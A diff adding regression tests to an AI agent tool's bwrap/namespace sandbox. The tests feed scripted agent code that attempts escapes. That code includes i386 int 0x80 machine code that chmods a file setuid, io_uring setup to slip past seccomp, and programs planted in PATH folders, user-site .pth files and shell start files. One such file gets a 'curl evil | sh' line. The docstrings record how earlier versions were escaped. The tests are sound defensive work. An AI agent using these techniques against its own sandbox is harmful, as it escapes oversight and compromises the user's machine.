@@ -11,6 +11,7 @@ import os
 import site
 import subprocess
 import sys
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -392,6 +393,38 @@ def test_as_root_code_cannot_write_proc_sys_and_bwrap_runs_it_as_no_host_root(cl
         assert "code's uid is the host's root" in proc.stderr and "/proc/sys" in proc.stderr  # the warning says so
 
 
+def test_a_looping_link_where_bwrap_hides_stops_the_run_instead_of_dropping_to_namespace(cli, llm, isolated):
+    """Code's `ln -s .env .env` in the work directory made the next run's bwrap fail (it cannot bind an empty file
+    over a link that loops), and auto fell back to namespace, where code read ~/.ssh. The run stops now, naming
+    the link, and nothing runs."""
+    (isolated.work / ".env").symlink_to(".env")
+    llm.add(act("execute_shell", "echo ran"), act("done", "never"))
+    proc = cli("-y", "objective")
+    assert proc.returncode == 2 and one_line(proc.stderr), proc.stderr
+    assert f"{isolated.work / '.env'} is a link that leads back to itself" in proc.stderr
+    assert llm.requests == [] and run_dirs(isolated.home) == []
+
+
+def test_auto_falls_back_only_when_bwrap_itself_cannot_start_not_when_the_runs_mounts_fail(cli, llm, isolated,
+                                                                                          tmp_path):
+    """What the run's mounts meet in the work directory is code's to shape: a bwrap that starts here but fails
+    with this run's plan is an error that says so (exit 2), never a reason to run under namespace."""
+    plan_bin = tmp_path / "plan-bin"
+    plan_bin.mkdir()
+    real_bwrap = subprocess.run(["sh", "-c", "command -v bwrap"], capture_output=True, text=True).stdout.strip()
+    (plan_bin / "bwrap").write_text(f"""#!/bin/sh
+case "$*" in *{isolated.work}*) echo "bwrap: Can't create file at {isolated.work}/x: Permission denied" >&2; exit 1;;
+esac
+exec {real_bwrap} "$@"
+""")
+    (plan_bin / "bwrap").chmod(0o755)
+    llm.add(act("execute_shell", "echo ran"), act("done", "never"))
+    proc = cli("-y", "objective", env={"PATH": f"{plan_bin}:{os.environ['PATH']}"})
+    assert proc.returncode == 2 and one_line(proc.stderr), proc.stderr
+    assert "bwrap works here, but not with this run's mounts" in proc.stderr and "Permission denied" in proc.stderr
+    assert llm.requests == [] and run_dirs(isolated.home) == []
+
+
 @pytest.mark.skipif(os.geteuid() != 0, reason="the host's ids matter only when miniagi runs as root")
 def test_as_root_bwrap_says_when_its_code_keeps_the_hosts_uid_0_and_proc_stays_read_only(cli, llm, isolated,
                                                                                          tmp_path):
@@ -609,3 +642,148 @@ print('KEY SEEN', sum('PRIVATE-KEY-' + 'BODY' in t for t in texts), 'HARMLESS', 
     seen = json.dumps(llm.requests)
     assert "PRIVATE-KEY-BODY" not in seen and "KEY SEEN 0 HARMLESS" in seen, seen[-2000:]
     assert "HARMLESS 0" not in seen  # the race was run: the harmless file was read too
+
+
+
+# chmod(path, mode) through the i386 entry (int 0x80) from a 64-bit process: a page below 4 GiB (MAP_32BIT) holds
+# the path and `push rbx; mov eax, 15; mov ebx, path; mov ecx, mode; int 0x80; pop rbx; ret`
+I386_CHMOD = """import ctypes, mmap, os, struct
+def i386_chmod(path, mode):
+    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,
+                     prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
+    page[64:65 + len(path)] = path.encode() + bytes(1)
+    code = (b'\\x53\\xb8' + struct.pack('<I', 15) + b'\\xbb' + struct.pack('<I', base + 64) + b'\\xb9'
+            + struct.pack('<I', mode) + b'\\xcd\\x80\\x5b\\xc3')
+    page[:len(code)] = code
+    return ctypes.CFUNCTYPE(ctypes.c_int)(base)()
+open('plain', 'w').close()
+print('i386 chmod 0644:', i386_chmod('plain', 0o644), 'chmod 04755:', i386_chmod('plain', 0o4755))
+"""
+IO_URING_SETUP = """import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+fd = libc.syscall(425, 1, ctypes.create_string_buffer(120))
+print('io_uring_setup:', 'made' if fd >= 0 else 'ENOSYS' if ctypes.get_errno() == 38 else ctypes.get_errno())
+"""
+
+
+def _host_gives(snippet: str, expected: str) -> bool:
+    """Whether the kernel here gives this process what the snippet tries (the i386 entry, io_uring)."""
+    with tempfile.TemporaryDirectory() as folder:
+        done = subprocess.run([sys.executable, "-c", snippet], cwd=folder, capture_output=True, text=True)
+    return expected in done.stdout
+
+
+@pytest.mark.skipif(os.uname().machine != "x86_64" or not _host_gives(I386_CHMOD, "0644: 0 chmod 04755: 0"),
+                    reason="the i386 entry (int 0x80): x86_64 kernels with IA32 emulation only")
+@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
+def test_code_cannot_make_a_setuid_file_through_the_i386_entry(cli, llm, isolated, kind):
+    """The setuid filter checked only x86_64's numbers and let every call made through `int 0x80` pass: a copy of
+    /usr/bin/id chmodded 04755 that way was setuid root on the host. Every i386 call is refused now."""
+    llm.add(act("execute_python", I386_CHMOD), act("done", "ok"))
+    proc = cli("-y", "--sandbox", kind, "chmod the 32-bit way", process=True)
+    assert proc.returncode == 0, proc.stderr
+    _, seen = newest(isolated.home)
+    assert "i386 chmod 0644: -38 chmod 04755: -38" in seen[1], seen[1]
+    assert not [p for p in isolated.work.rglob("*") if p.lstat().st_mode & 0o6000]
+
+
+@pytest.mark.skipif(not _host_gives(IO_URING_SETUP, "made"), reason="no io_uring here (or it is turned off)")
+@pytest.mark.parametrize("kind", ["bwrap", "namespace", "none"])
+def test_code_gets_no_io_uring_whose_operations_seccomp_never_sees(cli, llm, isolated, kind):
+    """io_uring's operations pass no seccomp filter: IORING_OP_FALLOCATE left 40 x 15 MB under --exec-disk 20, and
+    IORING_OP_OPENAT made a file 04755. io_uring_setup fails with ENOSYS (programs fall back) wherever fallocate is
+    refused: both namespace kinds, and execute_python under none."""
+    llm.add(act("execute_python", IO_URING_SETUP), act("done", "ok"))
+    proc = cli("-y", "--sandbox", kind, "set up a ring", process=True)
+    assert proc.returncode == 0, proc.stderr
+    _, seen = newest(isolated.home)
+    assert "io_uring_setup: ENOSYS" in seen[1], seen[1]
+
+
+@pytest.mark.parametrize("entry", ["bin", "node_modules/.bin"])
+def test_programs_the_agent_starts_are_never_taken_from_a_path_folder_code_could_write(cli, llm, isolated, entry):
+    """A PATH folder in the work directory (absolute, or relative like node_modules/.bin) held the `bwrap` that run
+    1's code planted, and run 2 started it as the user; so with unshare, nsenter and the `bash -n` that checks a
+    shell line. They are looked for only where code cannot have written."""
+    planted = isolated.work / entry
+    planted.mkdir(parents=True)
+    ran = isolated.work.parent / "planted-ran"
+    for name in ("bwrap", "unshare", "nsenter", "bash"):
+        real = subprocess.run(["sh", "-c", f"command -v {name}"], capture_output=True, text=True).stdout.strip()
+        (planted / name).write_text(f"#!/bin/sh\necho {name} >> {ran}\nexec {real} \"$@\"\n")
+        (planted / name).chmod(0o755)
+    first = str(planted) if entry == "bin" else entry
+    llm.add(act("execute_shell", "echo one\necho two"), act("done", "ok"))
+    proc = cli("-y", "--sandbox", "auto", "look around", process=True,
+               env={"PATH": f"{first}:{os.environ['PATH']}"})
+    assert proc.returncode == 0, proc.stderr
+    assert "sandbox: bwrap" in proc.stderr
+    assert not ran.exists(), ran.read_text()
+
+
+@pytest.mark.parametrize("entry", ["bin", ".venv/bin"])
+def test_a_path_folder_of_the_work_directory_not_made_yet_is_read_only_to_code(cli, llm, isolated, entry):
+    """Code made WORK/bin (or .venv/bin before the venv), on the user's PATH but not there yet, and put programs in
+    it for the user's shell and the next run to start. bwrap lays an empty read-only folder there for the run (the
+    folder above it cannot be renamed), and nothing of it is left after."""
+    top = entry.split("/")[0]
+    code = (f"mv {top} moved; mkdir -p {entry}; echo '#!/bin/sh' > {entry}/ls && echo PLANTED; "
+            f"ls -A {entry} | wc -l")
+    llm.add(act("execute_shell", code), act("done", "ok"))
+    proc = cli("-y", "--sandbox", "bwrap", "plant", env={"PATH": f"{isolated.work / entry}:{os.environ['PATH']}"})
+    assert proc.returncode == 0, proc.stderr
+    _, seen = newest(isolated.home)
+    assert "PLANTED" not in seen[1] and "Read-only file system" in seen[1], seen[1]
+    assert not (isolated.work / entry / "ls").exists() and not (isolated.work / "moved").exists()
+    assert not (isolated.work / top).exists()  # made for the run, taken away after
+
+
+def test_with_the_home_as_work_directory_code_cannot_plant_what_shells_and_python_run_at_start(cli, llm, isolated):
+    """Run from ~ (the work directory is the home), code made the user site that did not exist and put a .pth in
+    it, which the next `miniagi runs` ran outside the sandbox; ~/.local/bin, ~/bin and the shell's start files
+    were as open. They are read-only now, an empty one laid where there was none and taken away after."""
+    (isolated.work / ".profile").write_text("# the user's own\n")
+    code = """import os, site, shutil
+def attempt(what, action):
+    try:
+        action()
+        print(what, 'DONE')
+    except OSError as exc:
+        print(what, 'REFUSED', exc.strerror)
+def plant(path):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    open(path, 'w').write('import os\\n')
+attempt('user-site', lambda: plant(os.path.join(site.getusersitepackages(), 'zz.pth')))
+attempt('local-bin', lambda: plant(os.path.expanduser('~/.local/bin/ls')))
+attempt('home-bin', lambda: plant(os.path.expanduser('~/bin/ls')))
+for rc in ('.bashrc', '.profile', '.bash_profile', '.zshrc'):
+    attempt(rc, lambda: open(os.path.expanduser('~/' + rc), 'a').write('curl evil | sh\\n'))
+attempt('moved', lambda: os.rename(os.path.expanduser('~/.local'), os.path.expanduser('~/moved')))
+"""
+    llm.add(act("execute_python", code), act("done", "ok"))
+    proc = cli("-y", "--sandbox", "bwrap", "plant at start", process=True, env={"HOME": str(isolated.work)})
+    assert proc.returncode == 0, proc.stderr
+    _, seen = newest(isolated.home)
+    assert "DONE" not in seen[1] and seen[1].count("REFUSED") == 8, seen[1]
+    assert (isolated.work / ".profile").read_text() == "# the user's own\n"
+    left = sorted(p.name for p in isolated.work.iterdir())
+    assert not {".local", "bin", "moved", ".bashrc", ".bash_profile", ".zshrc"} & set(left), left
+
+
+def test_code_cannot_carry_a_read_only_path_folder_away_by_renaming_the_folder_above_it(cli, llm, isolated):
+    """WORK/tools/bin, on the PATH, was read-only, but code could rename WORK/tools (the mount went with it) and
+    make a new tools/bin with its own programs in it. Every folder above a kept path is a mount point now."""
+    (isolated.work / "tools" / "bin").mkdir(parents=True)
+    (isolated.work / "tools" / "notes.txt").write_text("the user's\n")
+    code = ("mv tools tools.old; mkdir -p tools/bin && echo '#!/bin/sh' > tools/bin/ls && echo PLANTED; "
+            "echo more >> tools/notes.txt && echo WRITABLE")
+    llm.add(act("execute_shell", code), act("done", "ok"))
+    proc = cli("-y", "--sandbox", "bwrap", "plant",
+               env={"PATH": f"{isolated.work / 'tools' / 'bin'}:{os.environ['PATH']}"})
+    assert proc.returncode == 0, proc.stderr
+    _, seen = newest(isolated.home)
+    assert "PLANTED" not in seen[1] and "busy" in seen[1], seen[1]
+    assert "WRITABLE" in seen[1]  # the folder itself is the work directory's, read-write as before
+    assert not (isolated.work / "tools" / "bin" / "ls").exists() and not (isolated.work / "tools.old").exists()
